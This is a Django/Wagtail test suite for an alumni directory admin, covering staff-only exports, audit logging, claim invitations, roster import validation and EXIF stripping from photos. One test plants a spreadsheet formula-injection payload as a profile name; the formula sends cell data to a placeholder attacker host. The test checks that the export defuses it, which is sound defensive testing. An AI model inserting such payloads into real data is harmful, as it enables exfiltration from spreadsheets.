import csv
import io
import re

import pytest
from django.contrib.auth.models import Group, Permission
from django.contrib.messages import get_messages
from django.core import mail
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from PIL import Image
from wagtail.test.utils.form_data import inline_formset, nested_form_data
from wagtail.users.models import UserProfile

from alumni.factories import CohortFactory, OrganisationFactory, ProfileFactory
from alumni.models import AuditLog, ClaimInvitation, Introduction, Profile, Visibility
from core.factories import region
from members.factories import UserFactory
from tests.core.test_images import GPS_IFD, metadata_of, photo_with_gps

pytestmark = pytest.mark.django_db

PROFILES = "wagtailsnippets_alumni_profile"
COHORTS = "wagtailsnippets_alumni_cohort"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def staff(client):
    user = UserFactory(is_staff=True, is_superuser=True)
    UserProfile.objects.update_or_create(user=user, defaults={"preferred_language": "en"})
    client.force_login(user)
    return user


@pytest.fixture
def editor():
    """A Wagtail editor who may manage every alumni model, but is not a staff account."""
    group = Group.objects.create(name="Editor alumni")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        *Permission.objects.filter(content_type__app_label="alumni"),
    )
    user = UserFactory()
    user.groups.add(group)
    return user


def export(client, view=PROFILES, export_format="csv", **filters):
    return client.get(reverse(f"{view}:list"), {**filters, "export": export_format})


def csv_rows(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("who", ["anonymous", "member", "editor"])
def test_exports_are_refused_to_anyone_but_staff(client, who, editor):
    ProfileFactory(full_name="Tidak Boleh Bocor")
    if who == "member":
        client.force_login(UserFactory(member=True))
    elif who == "editor":
        client.force_login(editor)

    for view in (PROFILES, COHORTS):
        response = export(client, view)

        assert response.status_code == 302
        target = response["Location"]
        if who == "editor":
            assert target == reverse("wagtailadmin_home")
        else:
            assert target.startswith(reverse("wagtailadmin_login"))
        assert not hasattr(response, "streaming_content")
    assert not AuditLog.objects.exists()


def test_profiles_are_for_staff_only_even_for_editors_with_every_alumni_permission(client, editor):
    client.force_login(editor)

    assert client.get(reverse(f"{PROFILES}:list"))["Location"] == reverse("wagtailadmin_home")
    cohorts = client.get(reverse(f"{COHORTS}:list"))
    assert cohorts.status_code == 200
    assert "Download CSV" not in cohorts.content.decode()


def test_a_csv_export_contains_what_the_filters_say_and_is_logged(client, staff):
    cohort = CohortFactory(name="Angkatan Ekspor")
    lebak = region("Kabupaten Lebak")
    wanted = ProfileFactory(
        full_name="Yang Dicari",
        visible=Visibility.PUBLIC,
        sector="cso",
        regency=lebak,
        topics=["deteksi dini"],
        organisations=[OrganisationFactory(name="LSM Ekspor")],
    )
    wanted.cohorts.add(cohort)
    wanted.save()
    ProfileFactory(full_name="Sektor Lain", visible=Visibility.PUBLIC, sector="media", regency=lebak)
    ProfileFactory(full_name="Tersembunyi", sector="cso", regency=lebak)

    response = export(client, visibility="public", sector="cso", regency=lebak.pk)

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="alumni-profiles.csv"'
    [row] = csv_rows(response)
    assert row["Full name"] == "Yang Dicari"
    assert row["Cohorts"] == "Angkatan Ekspor"
    assert row["Organisations"] == "LSM Ekspor"
    assert row["Topics"] == "deteksi dini"
    assert row["Regency/city"] == "Kabupaten Lebak"
    assert (row["Sector"], row["Who sees the profile"]) == ("CSO/NGO", "Everyone")
    [entry] = AuditLog.objects.all()
    assert (entry.user, entry.action) == (staff, AuditLog.Action.EXPORT)
    assert entry.detail.startswith("alumni profiles csv ")
    assert "visibility=public" in entry.detail
    assert "sector=cso" in entry.detail
    assert f"regency={lebak.pk}" in entry.detail


def test_an_xlsx_export_follows_the_search_and_the_claimed_and_consent_filters(client, staff):
    ProfileFactory(full_name="Sudah Klaim", user=UserFactory(), visible=Visibility.MEMBERS, external_id="X-1")
    ProfileFactory(full_name="Belum Klaim Satu", external_id="X-2")
    ProfileFactory(full_name="Belum Klaim Dua", external_id="Y-3")

    response = export(client, export_format="xlsx", claimed="false", consent="false", q="X-")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.values)
    names = [row[rows[0].index("Full name")] for row in rows[1:]]
    assert names == ["Belum Klaim Satu"]
    assert "claimed=false" in AuditLog.objects.get().detail


def test_the_export_query_count_does_not_grow_with_the_number_of_profiles(client, staff):
    cohort = CohortFactory()
    organisation = OrganisationFactory()

    def make(count):
        for _number in range(count):
            profile = ProfileFactory(topics=["pemilu"], organisations=[organisation])
            profile.cohorts.add(cohort)
            profile.save()

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert len(csv_rows(export(client))) == Profile.objects.count()
        return len(captured)

    make(10)
    queries()  # warms per-process caches (the ContentType of the audit log) that earlier tests may have warmed
    few = queries()
    make(90)
    assert queries() == few


def test_opening_a_profile_in_the_admin_is_logged(client, staff):
    profile = ProfileFactory(full_name="Dibuka Staf")

    response = client.get(reverse(f"{PROFILES}:edit", args=[profile.pk]))

    assert response.status_code == 200
    [entry] = AuditLog.objects.all()
    assert (entry.user, entry.action, entry.profile) == (staff, AuditLog.Action.VIEW, profile)


def test_the_listing_filters_and_searches_profiles(client, staff):
    ProfileFactory(full_name="Nur Cahaya", external_id="ROSTER-77", sector="media")
    ProfileFactory(full_name="Lain Lagi", sector="cso")

    listing = client.get(reverse(f"{PROFILES}:list"), {"q": "ROSTER-77"}).content.decode()
    assert "Nur Cahaya" in listing
    assert "Lain Lagi" not in listing
    filtered = client.get(reverse(f"{PROFILES}:list"), {"sector": "cso"}).content.decode()
    assert "Lain Lagi" in filtered
    assert "Nur Cahaya" not in filtered
    assert "Download XLSX" in filtered
    assert reverse("alumni_roster:import") in filtered


def test_introductions_and_the_audit_log_are_read_only_for_staff(client, staff):
    introduction = Introduction.objects.create(
        recipient=ProfileFactory(),
        sender_name="Pengirim",
        sender_email="p@example.org",
        purpose="Kerja sama",
        message="Halo",
        token_hash="a" * 64,
    )

    assert "Pengirim" in client.get(reverse("wagtailsnippets_alumni_introduction:list")).content.decode()
    inspect = client.get(reverse("wagtailsnippets_alumni_introduction:inspect", args=[introduction.pk]))
    assert inspect.status_code == 200
    assert "a" * 64 not in inspect.content.decode()
    for url in (
        reverse("wagtailsnippets_alumni_introduction:add"),
        reverse("wagtailsnippets_alumni_introduction:edit", args=[introduction.pk]),
        reverse("wagtailsnippets_alumni_auditlog:add"),
    ):
        assert client.get(url).status_code == 302, url
    assert client.get(reverse("wagtailsnippets_alumni_auditlog:list")).status_code == 200


# --- Claim invitations -----------------------------------------------------------------------------


def bulk_url(*profiles):
    url = reverse("wagtail_bulk_action", args=["alumni", "profile", "send_invitation"])
    return url + "?" + "&".join(f"id={profile.pk}" for profile in profiles)


def test_claim_invitations_are_sent_to_unclaimed_profiles_and_the_others_are_skipped_with_a_reason(client, staff):
    ready = ProfileFactory(full_name="Siap Diundang", email="siap@example.org")
    claimed = ProfileFactory(full_name="Sudah Punya Akun", user=UserFactory(), visible=Visibility.PUBLIC)
    no_email = ProfileFactory(full_name="Tanpa Surel", email="")

    confirmation = client.get(bulk_url(ready, claimed, no_email))
    assert confirmation.status_code == 200
    page = confirmation.content.decode()
    assert "already claimed: will be skipped" in page
    assert "no e-mail address: will be skipped" in page

    response = client.post(bulk_url(ready, claimed, no_email), {"next": reverse(f"{PROFILES}:list")})

    assert response.status_code == 302
    [message] = mail.outbox
    assert message.to == ["siap@example.org"]
    assert ClaimInvitation.objects.get().profile == ready
    assert [str(m).strip() for m in get_messages(response.wsgi_request)] == [
        "Skipped: Sudah Punya Akun has already claimed this profile.",
        "Skipped: Tanpa Surel has no e-mail address to send the link to.",
        "Claim invitation on its way to 1 profile: Siap Diundang.",
    ]
    [entry] = AuditLog.objects.filter(action=AuditLog.Action.INVITE)
    assert (entry.user, entry.profile) == (staff, ready)


def test_unclaimed_profiles_have_an_invitation_button_in_the_listing(client, staff):
    ready = ProfileFactory(full_name="Siap Diundang")
    claimed = ProfileFactory(user=UserFactory(), visible=Visibility.PUBLIC)

    listing = client.get(reverse(f"{PROFILES}:list")).content.decode()

    links = re.findall(r'href="([^"]*send_invitation[^"]*)"', listing)
    assert any(f"id={ready.pk}&amp;" in link for link in links)
    assert not any(f"id={claimed.pk}&amp;" in link for link in links)


# --- Roster import ---------------------------------------------------------------------------------


ROSTER = (
    "external_id;full_name;email;cohort;year;regency;province;sector;organisation;topics\n"
    "IMP-1;Impor Satu;satu@example.org;SD 2024;2024;Lebak;;cso;LSM Impor;pemilu\n"
    "IMP-2;Impor Dua;bukan-surel;SD 2024;2024;Bogor;;;;\n"
)


def upload(client, content=ROSTER, name="roster.csv"):
    file = io.BytesIO(content.encode("utf-8-sig"))
    file.name = name
    return client.post(reverse("alumni_roster:import"), {"file": file})


def test_the_roster_import_previews_every_problem_then_imports_on_confirmation(client, staff):
    preview = upload(client)

    assert preview.status_code == 200
    page = preview.content.decode()
    assert "Dry run: 1 created, 0 updated, 0 unchanged, 1 rejected" in page
    assert (
        "line 3: email &quot;bukan-surel&quot; is not a valid e-mail address; regency &quot;Bogor&quot; is unknown"
    ) in page
    assert not Profile.objects.exists()
    data = re.search(r'name="data" value="([^"]+)"', page).group(1)

    done = client.post(reverse("alumni_roster:import"), {"data": data, "name": "roster.csv", "confirm": "1"})

    assert done.status_code == 200
    assert "1 created, 0 updated, 0 unchanged, 1 rejected" in done.content.decode()
    profile = Profile.objects.get()
    assert (profile.external_id, profile.visibility, profile.user) == ("IMP-1", Visibility.HIDDEN, None)
    entry = AuditLog.objects.get(action=AuditLog.Action.IMPORT)
    assert entry.user == staff
    assert entry.detail.startswith("roster.csv: 1 created")


@pytest.mark.parametrize(
    ("post", "message"),
    [
        ({}, "Choose a file to import."),
        ({"data": "bukan base64!", "confirm": "1"}, "The checked file was damaged on the way"),
    ],
)
def test_the_roster_import_explains_what_is_missing(client, staff, post, message):
    response = client.post(reverse("alumni_roster:import"), post)

    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_file_with_a_wrong_header_is_refused_in_the_admin(client, staff):
    response = upload(client, "nama,surel\nA,B\n")

    assert response.status_code == 400
    assert "The header of roster.csv is wrong: unknown columns" in response.content.decode()
    assert not AuditLog.objects.exists()


def test_the_roster_import_is_refused_to_editors_and_members(client, editor):
    for user in (editor, UserFactory(member=True)):
        client.force_login(user)
        assert upload(client).status_code == 302
        assert client.get(reverse("alumni_roster:import")).status_code == 302
    assert not Profile.objects.exists()


def test_the_profile_chooser_shows_editors_only_people_they_may_see_and_staff_everyone(client, editor):
    shown = ProfileFactory(full_name="Pembicara Terbuka", visible=Visibility.PUBLIC)
    hidden = ProfileFactory(full_name="Rahasia Penyunting")
    chooser = "wagtailsnippetchoosers_alumni_profile"

    client.force_login(editor)
    listing = client.get(reverse(f"{chooser}:choose_results")).content.decode()
    assert "Pembicara Terbuka" in listing and "Rahasia Penyunting" not in listing
    assert "Pembicara Terbuka" in client.get(reverse(f"{chooser}:choose_results"), {"q": "Pembicara"}).content.decode()
    assert (
        "Rahasia Penyunting" not in client.get(reverse(f"{chooser}:choose_results"), {"q": "Rahasia"}).content.decode()
    )
    assert client.get(reverse(f"{chooser}:chosen", args=[hidden.pk])).status_code == 404
    assert client.get(reverse(f"{chooser}:chosen", args=[shown.pk])).status_code == 200

    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    assert "Rahasia Penyunting" in client.get(reverse(f"{chooser}:choose_results"), {"q": "Rahasia"}).content.decode()


def test_the_profile_export_defuses_spreadsheet_formulas(client, staff):
    ProfileFactory(full_name='=HYPERLINK("https://evil.example/?"&D3)', bio="biasa")
    rows = csv_rows(export(client))
    assert [row for row in rows if row and any(value.startswith("'=HYPERLINK") for value in row.values())]
    assert not [row for row in rows if any(value.startswith("=") for value in row.values())]


def test_a_photo_staff_upload_in_the_admin_is_stored_without_its_gps_position(client, staff):
    assert metadata_of(photo_with_gps())["gps"]  # the test photo does carry a position
    profile = ProfileFactory(full_name="Foto Staf", display_name="Foto Staf")
    data = nested_form_data(
        {
            "full_name": "Foto Staf",
            "display_name": "Foto Staf",
            "memberships": inline_formset([]),
            "help_offers": inline_formset([]),
            "photo_audience": "members",
            "email_audience": "nobody",
            "phone_audience": "nobody",
            "social_audience": "nobody",
            "visibility": "hidden",
        }
    )
    data["photo"] = SimpleUploadedFile("ponsel.jpg", photo_with_gps(), "image/jpeg")

    response = client.post(reverse(f"{PROFILES}:edit", args=[profile.pk]), data)

    assert response.status_code == 302, response.context["form"].errors if response.context else ""
    profile.refresh_from_db()
    assert profile.photo
    with default_storage.open(profile.photo.name) as stored:
        content = stored.read()
    with Image.open(io.BytesIO(content)) as image:
        assert dict(image.getexif().get_ifd(GPS_IFD)) == {}
    assert metadata_of(content)["exif"] == {}
    assert b"KameraPonsel" not in content
